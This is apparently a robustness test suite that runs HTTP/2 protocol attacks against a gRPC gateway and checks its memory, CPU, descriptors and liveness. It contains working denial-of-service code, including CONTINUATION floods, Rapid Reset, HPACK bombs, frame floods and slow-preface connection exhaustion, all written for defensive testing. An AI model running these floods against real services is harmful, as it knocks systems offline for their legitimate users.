"""Does to the gRPC port what HTTP/2 forbids, or allows in quantities that nobody needs.

    python tests/conformance/h2_negatives.py ADDRESS PID [ATTACK ...]

ADDRESS is where the Gateway service of the process PID listens; it has the exchange
`widgets`. After each attack a line of JSON tells what was sent, how it ended and what it
cost the process; `problems` names what was not as it must be:

- the process is there, and answered a PushEvent on another connection throughout;
- its memory grew by no more than the attack's bound, at its worst;
- its CPU was in proportion to what was sent, with what honest calls cost this process on
  this machine as the measure, and is idle again afterwards;
- its file descriptors are back.
"""

import json
import os
import socket
import ssl
import struct
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import grpc
import hpack
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import StreamEnded, StreamReset
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MIB = 1 << 20

# How much the process may grow, in KiB, where an attack says nothing else.
GROWTH = 16 * 1024
# In honest calls: what may be used whatever is sent, by a MiB and by a frame. Bytes may cost
# CPU as if they came over a slow network.
CALLS_FREE = 3000
CALLS_PER_MIB = 3000
CALLS_PER_FRAME = 1
# Honest calls that tell what one costs, and the least that it is taken for, in seconds: the
# system counts CPU in hundredths.
MEASURED_CALLS = 400
CALL_MIN = 100e-6
# For everything that comes in the end: only waited out by a failure. The machine may be slow,
# and do other things too.
PATIENCE = 60.0


class Process:
    def __init__(self, pid: int):
        self.directory = Path("/proc") / str(pid)
        self.ticks = os.sysconf("SC_CLK_TCK")

    def memory(self, field: str) -> int:
        """In KiB."""
        for line in (self.directory / "status").read_text().splitlines():
            if line.startswith(field + ":"):
                return int(line.split()[1])
        raise RuntimeError("the process is gone")

    def forget_peak(self) -> None:
        (self.directory / "clear_refs").write_text("5")

    def cpu(self) -> float:
        fields = (self.directory / "stat").read_text().rsplit(") ", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / self.ticks

    def descriptors(self) -> int:
        return len(list((self.directory / "fd").iterdir()))

    def becomes_idle(self) -> bool:
        until = time.monotonic() + PATIENCE
        while time.monotonic() < until:
            before = self.cpu()
            time.sleep(0.2)
            if self.cpu() - before <= 0.02:
                return True
        return False

    def descriptors_return_to(self, count: int) -> bool:
        until = time.monotonic() + PATIENCE
        while self.descriptors() > count:
            if time.monotonic() > until:
                return False
            time.sleep(0.02)
        return True


def field(number: int, value: str | bytes) -> bytes:
    """A string of a protobuf message."""
    value = value.encode() if isinstance(value, str) else value
    length, encoded = len(value), b""
    while length > 127:
        encoded += bytes([length & 127 | 128])
        length >>= 7
    return bytes([number << 3 | 2]) + encoded + bytes([length]) + value


def message(body: bytes) -> bytes:
    """As gRPC frames it."""
    return struct.pack(">BI", 0, len(body)) + body


EVENT = field(1, "widgets") + field(2, "1") + field(3, "Changed")


class Healthy:
    """An honest caller beside the attack."""

    def __init__(self, address: str):
        self.address = address
        self.channel = self.connect()
        self.stop = threading.Event()
        self.slowest = 0.0
        self.answered = 0
        self.failed: str | None = None

    def connect(self) -> grpc.Channel:
        options = [("grpc.enable_http_proxy", 0), ("grpc.use_local_subchannel_pool", 1)]
        return grpc.insecure_channel(self.address, options)

    def push(self, channel: grpc.Channel) -> None:
        channel.unary_unary("/myxi.v1.Gateway/PushEvent")(EVENT, timeout=PATIENCE)

    def push_anew(self) -> None:
        with self.connect() as channel:
            self.push(channel)

    def go_on(self) -> None:
        while not self.stop.is_set():
            began = time.monotonic()
            try:
                self.push(self.channel)
            except grpc.RpcError as error:
                self.failed = f"{error.code().name}: {error.details()}"
                return
            self.answered += 1
            self.slowest = max(self.slowest, time.monotonic() - began)
            self.stop.wait(0.01)

    def __enter__(self):
        self.push(self.channel)
        self.thread = threading.Thread(target=self.go_on)
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.stop.set()
        self.thread.join()
        self.channel.close()


class Peer:
    """One hostile connection. Bytes go out for as long as the other side takes them."""

    # A send that is not taken for so long will not be taken at all.
    STUCK = 3.0
    STUCK_THOUGH_IT_READS = PATIENCE

    def __init__(self, attack: "Attack", preface: bool = True, reads: bool = True, **values: int):
        """Without `reads`, what comes after the settings stays where it is. `values` are
        its own settings."""
        host, port = attack.address.rsplit(":", 1)
        self.attack = attack
        self.reads = reads
        self.socket = socket.create_connection((host, int(port)), timeout=PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.received = bytearray()
        self.ended: str | None = None
        self.encoder = hpack.Encoder()
        attack.peers.append(self)
        if preface:
            self.send(PREFACE + settings(**values))
            length = int.from_bytes(self.take(9)[:3], "big")
            self.take(length)
            self.send(unchecked(SETTINGS, ACK, 0, b""))
        self.socket.settimeout(self.STUCK_THOUGH_IT_READS if reads else self.STUCK)
        if reads:
            # Its own, which an end of this one does not take from it.
            reading = self.socket.dup()
            self.reader = threading.Thread(target=self.read, args=[reading], daemon=True)
            self.reader.start()

    def take(self, count: int) -> bytes:
        taken = self.socket.recv(count, socket.MSG_WAITALL)
        self.received += taken
        return taken

    def read(self, reading: socket.socket) -> None:
        """Keeps the last of what comes: that is where an end is explained."""
        reading.settimeout(60)
        try:
            while piece := reading.recv(1 << 16):
                self.received += piece
        except OSError as error:
            self.ended = self.ended or type(error).__name__
        else:
            self.ended = self.ended or "closed"
        finally:
            reading.close()

    def send(self, piece: bytes) -> bool:
        """Whether it was taken."""
        if self.ended:
            return False
        try:
            self.socket.sendall(piece)
        except TimeoutError:
            self.ended = "not read"
            return False
        except OSError as error:
            self.ended = self.ended or type(error).__name__
            return False
        self.attack.bytes += len(piece)
        return True

    def flood(self, pieces: Callable[[int], bytes], count: int, at_once: int = 200) -> None:
        for first in range(0, count, at_once):
            numbers = range(first, min(first + at_once, count))
            if not self.send(b"".join(map(pieces, numbers))):
                return
            self.attack.frames += len(numbers)

    def headers(self, stream: int, method: str = "PushEvent", more=(), end=False) -> bytes:
        block = self.encoder.encode(request(method, more))
        flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
        return raw(frames.HeadersFrame(stream, block, flags=flags))

    def wait_for_end(self, seconds: float = PATIENCE) -> None:
        """For the other side to say that it has had enough."""
        if self.reads and self.ended is None:
            self.reader.join(seconds)

    def wait_for_outcome(self, ends: tuple[str, ...]) -> None:
        """For what it must be told to have come; it need not be the end."""
        until = time.monotonic() + PATIENCE
        while self.reads and self.ended is None and time.monotonic() < until:
            if any(end in self.outcome() for end in ends):
                return
            self.reader.join(0.02)

    def frames_received(self) -> list:
        parsed, rest = [], bytes(self.received)
        while len(rest) >= 9:
            try:
                frame, length = frames.Frame.parse_frame_header(memoryview(rest[:9]))
            except Exception:
                break
            body = rest[9 : 9 + length]
            if len(body) < length:
                break
            try:
                frame.parse_body(memoryview(body))
            except Exception:
                pass
            parsed.append(frame)
            rest = rest[9 + length :]
        return parsed

    def outcome(self) -> str:
        names = {}
        for frame in self.frames_received():
            if isinstance(frame, frames.GoAwayFrame):
                names["go away " + code_name(frame.error_code)] = True
            elif isinstance(frame, frames.RstStreamFrame):
                names["reset " + code_name(frame.error_code)] = True
        return ", ".join([*names, self.ended or "open"])

    def close(self) -> None:
        self.ended = self.ended or "open"
        try:
            self.socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.socket.close()
        if self.reads:
            self.reader.join(5)


def code_name(code: int) -> str:
    names = {
        0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
        5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
        9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM",
    }
    return names.get(code, str(code))


def raw(frame: frames.Frame) -> bytes:
    return frame.serialize()


def unchecked(kind: int, flags: int, stream: int, payload: bytes, length: int | None = None):
    """A frame that no library would write."""
    length = len(payload) if length is None else length
    return struct.pack(">HBBBI", length >> 8, length & 255, kind, flags, stream) + payload


DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8


def settings(**values: int) -> bytes:
    numbers = {
        name: getattr(frames.SettingsFrame, name.upper()) for name in values
    }
    return raw(frames.SettingsFrame(0, {numbers[name]: value for name, value in values.items()}))


def request(method: str, more=()) -> list[tuple[str, str]]:
    service, _, method = method.rpartition("/")
    path = f"/{service or 'myxi.v1.Gateway'}/{method}"
    return [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
        ("content-type", "application/grpc"), ("te", "trailers"), *more,
    ]


def data(stream: int, payload: bytes, end: bool = True) -> bytes:
    """As many frames as it takes."""
    pieces = [payload[at : at + 16384] for at in range(0, len(payload), 16384)] or [b""]
    last = len(pieces) - 1
    return b"".join(
        unchecked(DATA, END_STREAM if end and number == last else 0, stream, piece)
        for number, piece in enumerate(pieces)
    )


def streams(count: int) -> range:
    return range(1, 2 * count, 2)


@dataclass
class Attack:
    name: str
    run: Callable[["Attack"], None]
    growth: int
    ends: tuple[str, ...]
    address: str = ""

    def __post_init__(self):
        self.bytes = 0
        self.frames = 0
        self.peers: list[Peer] = []


ATTACKS: list[Attack] = []


def attack(growth: int = GROWTH, ends: str = "", or_ends: str | None = None):
    """`ends` is in the outcome: how the other side must end it, or that it stays `open`. Where
    it depends on who is faster, `or_ends` is the other way."""

    def add(run):
        ATTACKS.append(Attack(run.__name__, run, growth, (ends, or_ends or ends)))
        return run

    return add


# --- Headers without end ---


@attack(ends="go away ENHANCE_YOUR_CALM")
def continuation_flood(a):
    p = Peer(a)
    p.send(unchecked(HEADERS, 0, 1, p.encoder.encode(request("PushEvent"))))
    # A literal that is never indexed, with a value of almost a frame.
    piece = b"\x10\x01x\x7f" + hpack.hpack.encode_integer(16000, 7)[1:] + b"v" * 16000
    p.flood(lambda _: unchecked(CONTINUATION, 0, 1, piece), 4000, at_once=8)
    p.wait_for_end()


@attack(ends="go away")
def continuation_flood_of_nothing(a):
    p = Peer(a)
    p.send(unchecked(HEADERS, 0, 1, p.encoder.encode(request("PushEvent"))))
    p.flood(lambda _: unchecked(CONTINUATION, 0, 1, b""), 200_000)
    p.wait_for_end()


@attack(ends="open")
def headers_that_never_end(a):
    """Held: one header block each on many connections."""
    for _ in range(200):
        p = Peer(a, reads=False)
        p.send(unchecked(HEADERS, 0, 1, p.encoder.encode(request("PushEvent", [("x", "y" * 8000)]))))
    time.sleep(0.5)


@attack(ends="")
def header_list_over_the_limit(a):
    p = Peer(a)
    more = [(f"x-{number}", "v" * 1000) for number in range(60)]
    for stream in streams(200):
        block = p.encoder.encode(request("PushEvent", more))
        first = unchecked(HEADERS, END_STREAM, stream, block[:16384])
        rest = [block[at : at + 16384] for at in range(16384, len(block), 16384)]
        tail = [unchecked(CONTINUATION, 0, stream, piece) for piece in rest]
        tail.append(unchecked(CONTINUATION, END_HEADERS, stream, b""))
        if not p.send(first + b"".join(tail)):
            break
        a.frames += 1 + len(tail)
    p.wait_for_end(0.5)


@attack(ends="")
def hpack_bomb(a):
    """One byte of header block for four thousand of header."""
    p = Peer(a)
    bomb = p.encoder.encode([("x", "v" * 4000)])
    index = b"\xbe"
    for stream in streams(200):
        block = (bomb if stream == 1 else b"") + index * 12_000
        if not p.send(unchecked(HEADERS, END_HEADERS | END_STREAM, stream, block)):
            break
        a.frames += 1
    p.wait_for_end(0.5)


@attack(ends="")
def hpack_table_resized_again_and_again(a):
    p = Peer(a)
    resize = b"\x20\x3f\xe1\x1f"
    block = resize * 4000
    p.flood(lambda n: unchecked(HEADERS, END_HEADERS, 2 * n + 1, block), 200, at_once=1)
    p.wait_for_end(0.5)


@attack(ends="go away")
def hpack_garbage(a):
    p = Peer(a)
    p.send(unchecked(HEADERS, END_HEADERS, 1, b"\xff" * 100))
    p.wait_for_end()


@attack(ends="")
def trailers_without_end(a):
    p = Peer(a)
    p.send(p.headers(1))
    trailer = p.encoder.encode([("x", "y")])
    p.flood(lambda _: unchecked(HEADERS, END_HEADERS, 1, trailer), 100_000)
    p.wait_for_end(0.5)


@attack(ends="PROTOCOL_ERROR")
def malformed_requests(a):
    p = Peer(a)
    bad = [
        [("X-Upper", "1")], [(":path", "/again")], [("connection", "close")], [("te", "gzip")],
        [(":unknown", "1")], [("transfer-encoding", "chunked")],
    ]
    encoder = hpack.Encoder()
    stream = 1
    for _ in range(50):
        for more in bad:
            block = encoder.encode(request("PushEvent", more))
            if not p.send(unchecked(HEADERS, END_HEADERS | END_STREAM, stream, block)):
                break
            a.frames += 1
            stream += 2
    p.wait_for_end(0.5)


# --- Streams opened to be dropped ---


@attack(ends="go away ENHANCE_YOUR_CALM")
def rapid_reset(a):
    p = Peer(a)
    p.flood(
        lambda n: p.headers(2 * n + 1) + raw(frames.RstStreamFrame(2 * n + 1, 8)), 100_000
    )
    p.wait_for_end()


@attack(ends="")
def rapid_reset_of_whole_requests(a):
    p = Peer(a)
    p.flood(
        lambda n: p.headers(2 * n + 1)
        + data(2 * n + 1, message(EVENT))
        + raw(frames.RstStreamFrame(2 * n + 1, 8)),
        20_000,
    )
    p.wait_for_end(0.5)


@attack(ends="reset FLOW_CONTROL_ERROR")
def reset_made_by_the_server(a):
    """Each stream is broken in a way that the server must reset it for (MadeYouReset)."""
    p = Peer(a)
    p.flood(
        lambda n: p.headers(2 * n + 1) + raw(frames.WindowUpdateFrame(2 * n + 1, (1 << 31) - 1)),
        10_000,
    )


@attack(ends="")
def more_streams_than_allowed(a):
    p = Peer(a)
    p.flood(lambda n: p.headers(2 * n + 1), 20_000)
    p.wait_for_end(0.5)


@attack(growth=64 * 1024, ends="open")
def streams_held_open(a):
    """All that a connection may have, on several: each costs 8 KiB for the 30 seconds that
    a request may take."""
    for _ in range(20):
        p = Peer(a)
        p.send(b"".join(p.headers(stream) for stream in streams(256)))
        p.send(b"".join(data(stream, message(EVENT)[:-1], end=False) for stream in streams(256)))
        a.frames += 512
    time.sleep(1)


@attack(growth=24 * 1024, ends="open")
def server_streams_held_open(a):
    """Health's watch and reflection answer for as long as one likes, but not everybody."""
    for method in ["grpc.health.v1.Health/Watch", "grpc.reflection.v1.ServerReflection/ServerReflectionInfo"] * 5:
        p = Peer(a)
        p.send(b"".join(p.headers(stream, method) for stream in streams(256)))
        body = message(field(7, "")) if "reflection" in method else message(b"")
        end = "reflection" not in method
        p.send(b"".join(data(stream, body, end=end) for stream in streams(256)))
        a.frames += 512
    time.sleep(1)


# --- Frames that mean next to nothing ---


@attack()
def ping_flood(a):
    p = Peer(a)
    p.flood(lambda _: unchecked(PING, 0, 0, b"12345678"), 200_000)


@attack(ends="not read")
def ping_flood_unread(a):
    p = Peer(a, reads=False)
    p.flood(lambda _: unchecked(PING, 0, 0, b"12345678"), 2_000_000, at_once=2000)


@attack()
def settings_flood(a):
    p = Peer(a)
    p.flood(lambda _: settings(), 200_000)
    p.wait_for_end(0.2)


@attack()
def settings_flood_unread(a):
    p = Peer(a, reads=False)
    p.flood(lambda _: settings(), 1_000_000, at_once=2000)


@attack()
def settings_of_many_entries(a):
    p = Peer(a)
    entries = struct.pack(">HI", 0x3, 100) * 2700
    p.flood(lambda _: unchecked(SETTINGS, 0, 0, entries), 500, at_once=4)
    p.wait_for_end(0.2)


@attack()
def settings_that_move_every_window(a):
    p = Peer(a)
    p.send(b"".join(p.headers(stream) for stream in streams(256)))
    up, down = settings(initial_window_size=1 << 20), settings(initial_window_size=0)
    p.flood(lambda n: up if n % 2 else down, 10_000)
    p.wait_for_end(0.2)


@attack(ends="go away PROTOCOL_ERROR")
def settings_out_of_range(a):
    for number, value in [(0x2, 2), (0x5, 1), (0x5, 1 << 24)]:
        p = Peer(a)
        p.send(unchecked(SETTINGS, 0, 0, struct.pack(">HI", number, value)))
        p.wait_for_end()


@attack(ends="go away")
def settings_cut_off(a):
    p = Peer(a)
    p.send(unchecked(SETTINGS, 0, 0, b"12345"))
    p.wait_for_end()


@attack(ends="")
def acknowledgements_nobody_asked_for(a):
    p = Peer(a)
    p.flood(lambda _: unchecked(SETTINGS, ACK, 0, b"") + unchecked(PING, ACK, 0, b"87654321"), 50_000)
    p.wait_for_end(0.2)


@attack()
def empty_data_flood(a):
    p = Peer(a)
    p.send(p.headers(1))
    p.flood(lambda _: unchecked(DATA, 0, 1, b""), 200_000)
    p.wait_for_end(0.5)


@attack()
def padding_flood(a):
    p = Peer(a)
    p.send(p.headers(1))
    p.flood(lambda _: unchecked(DATA, PADDED, 1, b"\xff" + b"\0" * 255), 20_000)
    p.wait_for_end(0.5)


@attack()
def window_update_flood(a):
    p = Peer(a)
    p.send(p.headers(1))
    p.flood(
        lambda n: raw(frames.WindowUpdateFrame(n % 2, 1)), 200_000
    )
    p.wait_for_end(0.2)


@attack()
def priority_flood(a):
    p = Peer(a)
    p.flood(
        lambda n: unchecked(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 2 * n + 3, 255)), 200_000
    )
    p.wait_for_end(0.2)


@attack()
def unknown_frames_flood(a):
    p = Peer(a)
    p.flood(lambda n: unchecked(0xBA, 0xFF, n, b"x" * 100), 100_000)
    p.wait_for_end(0.2)


@attack()
def go_away_flood(a):
    p = Peer(a)
    p.flood(lambda n: unchecked(GOAWAY, 0, 0, struct.pack(">II", 0, 0) + b"x" * 1000), 5_000)
    p.wait_for_end(0.5)


# --- Frames that are wrong ---


@attack(ends="go away FRAME_SIZE_ERROR")
def oversized_frame(a):
    p = Peer(a)
    p.send(p.headers(1))
    p.flood(lambda _: unchecked(DATA, 0, 1, b"x" * 16385), 500, at_once=1)
    p.wait_for_end()


@attack(ends="go away FRAME_SIZE_ERROR")
def frame_of_16_mib(a):
    p = Peer(a)
    p.send(p.headers(1) + unchecked(DATA, 0, 1, b"", length=(1 << 24) - 1))
    p.flood(lambda _: b"x" * 65536, 300, at_once=1)
    p.wait_for_end()


@attack(ends="go away FLOW_CONTROL_ERROR")
def window_of_the_connection_overflows(a):
    p = Peer(a)
    p.flood(lambda _: raw(frames.WindowUpdateFrame(0, (1 << 31) - 1)), 2)
    p.wait_for_end()


@attack(ends="reset FLOW_CONTROL_ERROR")
def window_of_a_stream_overflows(a):
    p = Peer(a)
    p.send(p.headers(1))
    p.flood(lambda _: raw(frames.WindowUpdateFrame(1, (1 << 31) - 1)), 2)
    p.wait_for_end(0.3)


@attack(ends="go away PROTOCOL_ERROR")
def window_update_of_nothing(a):
    p = Peer(a)
    p.send(unchecked(WINDOW, 0, 0, b"\0\0\0\0"))
    p.wait_for_end()


@attack(ends="reset", or_ends="go away FLOW_CONTROL_ERROR")
def data_beyond_the_window(a):
    """It is no message either: where that is found out first, the stream alone ends."""
    p = Peer(a)
    p.send(p.headers(1))
    p.flood(lambda _: unchecked(DATA, 0, 1, b"\xff" * 16384), 4000, at_once=4)
    p.wait_for_end(0.5)


@attack(ends="go away PROTOCOL_ERROR")
def push_promise_of_a_client(a):
    p = Peer(a)
    p.send(p.headers(1))
    block = p.encoder.encode(request("PushEvent"))
    p.send(unchecked(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + block))
    p.wait_for_end()


@attack(ends="go away")
def stream_ids_that_go_back(a):
    for ids in [(5, 3), (2,), (0,), (1, 1)]:
        p = Peer(a)
        for stream in ids:
            p.send(p.headers(stream, end=True) if stream else unchecked(HEADERS, END_HEADERS, 0, b"\x82"))
        if ids == (1, 1):
            p.send(data(1, b"x"))
        p.wait_for_end()


@attack(ends="go away PROTOCOL_ERROR")
def frames_of_streams_that_never_were(a):
    for piece in [data(7, b"x"), raw(frames.RstStreamFrame(7, 8)), raw(frames.WindowUpdateFrame(7, 1))]:
        p = Peer(a)
        p.send(piece)
        p.wait_for_end()


@attack(ends="go away PROTOCOL_ERROR")
def frames_between_headers_and_continuation(a):
    p = Peer(a)
    p.send(unchecked(HEADERS, 0, 1, p.encoder.encode(request("PushEvent"))) + unchecked(PING, 0, 0, b"12345678"))
    p.wait_for_end()


@attack(ends="go away PROTOCOL_ERROR")
def padding_longer_than_its_frame(a):
    p = Peer(a)
    p.send(p.headers(1) + unchecked(DATA, PADDED, 1, b"\xffshort"))
    p.wait_for_end()


@attack(ends="reset PROTOCOL_ERROR")
def content_length_that_lies(a):
    p = Peer(a)
    for stream in streams(50):
        p.send(p.headers(stream, more=[("content-length", "3")]) + data(stream, message(EVENT)))
        a.frames += 2
    p.wait_for_end(0.3)


# --- gRPC inside ---


@attack()
def message_that_says_4_gib(a):
    p = Peer(a)
    for stream in streams(200):
        p.send(p.headers(stream) + data(stream, b"\0\xff\xff\xff\xff" + b"x" * 1000, end=False))
        a.frames += 2
    p.wait_for_end(0.3)


@attack()
def compressed_message(a):
    p = Peer(a)
    for stream in streams(200):
        more = [("grpc-encoding", "gzip")]
        p.send(p.headers(stream, more=more) + data(stream, b"\1\0\0\0\x0a" + b"x" * 10))
        a.frames += 2
    p.wait_for_end(0.3)


class Honest(Peer):
    """Keeps to the windows that it was given: for what only patience can do."""

    def __init__(self, attack: "Attack"):
        super().__init__(attack, preface=False, reads=False)
        self.ended_streams: set[int] = set()
        self.state = H2Connection(H2Configuration(validate_outbound_headers=False))
        self.state.initiate_connection()
        self.exchange()

    def exchange(self) -> None:
        self.send(self.state.data_to_send())
        self.socket.settimeout(0.2)
        try:
            received = self.socket.recv(1 << 16)
        except TimeoutError:
            received = b""
        self.socket.settimeout(self.STUCK_THOUGH_IT_READS)
        for event in self.state.receive_data(received):
            if isinstance(event, (StreamEnded, StreamReset)):
                self.ended_streams.add(event.stream_id)
        self.send(self.state.data_to_send())

    def upload(self, stream: int, body: bytes) -> None:
        self.state.send_headers(stream, request("PushEvents"))
        at, patience = 0, 50
        while at < len(body) and patience and stream not in self.ended_streams:
            room = min(self.state.local_flow_control_window(stream), 16384)
            if room == 0:
                patience -= 1
                self.exchange()
                continue
            self.state.send_data(stream, body[at : at + room])
            at += room
            self.attack.frames += 1
        self.send(self.state.data_to_send())


@attack(growth=96 * 1024, ends="open")
def uploads_that_never_end(a):
    """Each call one byte short of the most that a message may have; together twice what
    the calls under way may hold."""
    size = 4 * MIB
    body = struct.pack(">BI", 0, size) + b"\0" * (size - 1)
    for _ in range(2):
        p = Honest(a)
        for stream in streams(16):
            p.upload(stream, body)
    refused = sum(len(p.ended_streams) for p in a.peers)
    assert 8 <= refused < 32, refused


@attack(growth=64 * 1024, ends="")
def answers_that_nobody_takes(a):
    """The window is shut: what is answered waits in the gateway. Its own requests mind no
    window of the connection: where the gateway is slow to open it, that ends it sooner."""
    event = field(1, field(1, "widgets") + field(5, "e" * 255))
    body = message(event * 1000)
    for _ in range(2):
        p = Peer(a, initial_window_size=0)
        for stream in streams(24):
            p.send(p.headers(stream, "PushEvents") + data(stream, body))
            a.frames += 18
    time.sleep(1)


@attack(ends="open")
def answers_taken_byte_by_byte(a):
    """Its requests fit the connection's first window: how soon the gateway opens it is not
    what is tried."""
    p = Peer(a, initial_window_size=1)
    body = message(field(1, field(1, "widgets")) * 40)
    for stream in streams(100):
        p.send(p.headers(stream, "PushEvents") + data(stream, body))
        a.frames += 2
    p.flood(lambda n: raw(frames.WindowUpdateFrame(2 * (n % 100) + 1, 1)), 20_000)


# --- Connections that are none ---


@attack()
def prefaces_that_never_end(a):
    """They would take every place for ever."""
    for _ in range(200):
        Peer(a, preface=False)
        Peer(a, preface=False).send(PREFACE[:-1])
    slow = Peer(a, preface=False)
    for byte in PREFACE[:-1]:
        if not slow.send(bytes([byte])):
            break
        time.sleep(0.4)
    for p in a.peers:
        p.wait_for_end()
    still_open = [p for p in a.peers if not p.ended]
    assert not still_open, len(still_open)


@attack(growth=24 * 1024, ends="open")
def idle_connections(a):
    for _ in range(900):
        Peer(a, reads=False)
    time.sleep(0.5)


@attack()
def connections_come_and_go(a):
    for _ in range(500):
        p = Peer(a, reads=False)
        p.close()
        a.peers.clear()
        a.frames += 5


@attack()
def garbage_for_a_preface(a):
    client_hello = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), client_hello, server_hostname="x")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    pieces = [
        client_hello.read(), b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", b"\0" * 1000, os.urandom(100_000),
        PREFACE[:-1] + b"x" + b"y" * 1000, b"PRI * HTTP/2.0\r\n\r\n" + b"x" * 100_000,
        PREFACE + b"GET / HTTP/1.1\r\n\r\n" * 10, b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 100_000,
    ]
    for piece in pieces:
        p = Peer(a, preface=False)
        p.send(piece)
        a.frames += 10
    for p in a.peers:
        p.wait_for_end(1)


def cost_of_a_call(address: str, process: Process) -> float:
    """In seconds of CPU, where nothing else is asked."""
    with Healthy(address) as healthy:
        healthy.stop.set()
        before = process.cpu()
        for _ in range(MEASURED_CALLS):
            healthy.push(healthy.channel)
        return max((process.cpu() - before) / MEASURED_CALLS, CALL_MIN)


def carry_out(a: Attack, process: Process, call: float) -> dict:
    problems = []
    descriptors = process.descriptors()
    with Healthy(a.address) as healthy:
        process.forget_peak()
        resident, cpu, began = process.memory("VmRSS"), process.cpu(), time.monotonic()
        try:
            a.run(a)
        except (AssertionError, OSError) as error:
            problems.append(f"the attack could not be carried out: {error!r}")
        if a.peers and a.ends[0] not in ("", "open"):
            a.peers[-1].wait_for_outcome(a.ends)
        cpu = process.cpu() - cpu
        seconds = time.monotonic() - began
        growth = process.memory("VmHWM") - resident
        outcome = a.peers[-1].outcome() if a.peers else ""
        for p in a.peers:
            p.close()
    try:
        healthy.push_anew()
    except grpc.RpcError as error:
        problems.append(f"afterwards a new caller gets {error.code().name}: {error.details()}")
    calls = CALLS_FREE + CALLS_PER_MIB * a.bytes / MIB + CALLS_PER_FRAME * a.frames
    allowed = call * (calls + 3 * healthy.answered)
    if healthy.failed:
        problems.append(f"an honest caller got {healthy.failed}")
    if growth > a.growth:
        problems.append(f"memory grew by {growth} KiB, not at most {a.growth}")
    if cpu > allowed:
        problems.append(f"took {cpu:.2f} s of CPU, not at most {allowed:.2f}")
    # Whoever goes on sending to a closed connection may lose what it was told last.
    lost = "open" not in a.ends and ("BrokenPipe" in outcome or "ConnectionReset" in outcome)
    if not any(end in outcome for end in a.ends) and not lost:
        problems.append(f"ended with {outcome!r}, not {a.ends[0]!r}")
    if not process.descriptors_return_to(descriptors):
        problems.append(f"{process.descriptors()} descriptors, not {descriptors}")
    if not process.becomes_idle():
        problems.append("its CPU does not become idle")
    return {
        "attack": a.name,
        "bytes": a.bytes,
        "frames": a.frames,
        "outcome": outcome,
        "seconds": round(seconds, 2),
        "cpu": round(cpu, 2),
        "cpu_allowed": round(allowed, 2),
        "growth_kib": growth,
        "kept_kib": process.memory("VmRSS") - resident,
        "healthy": healthy.answered,
        "healthy_slowest": round(healthy.slowest, 3),
        "problems": problems,
    }


def main() -> None:
    address, pid, *names = sys.argv[1:]
    process = Process(int(pid))
    call = cost_of_a_call(address, process)
    for a in ATTACKS:
        if not names or a.name in names:
            a.address = address
            print(json.dumps(carry_out(a, process, call)), flush=True)


main()
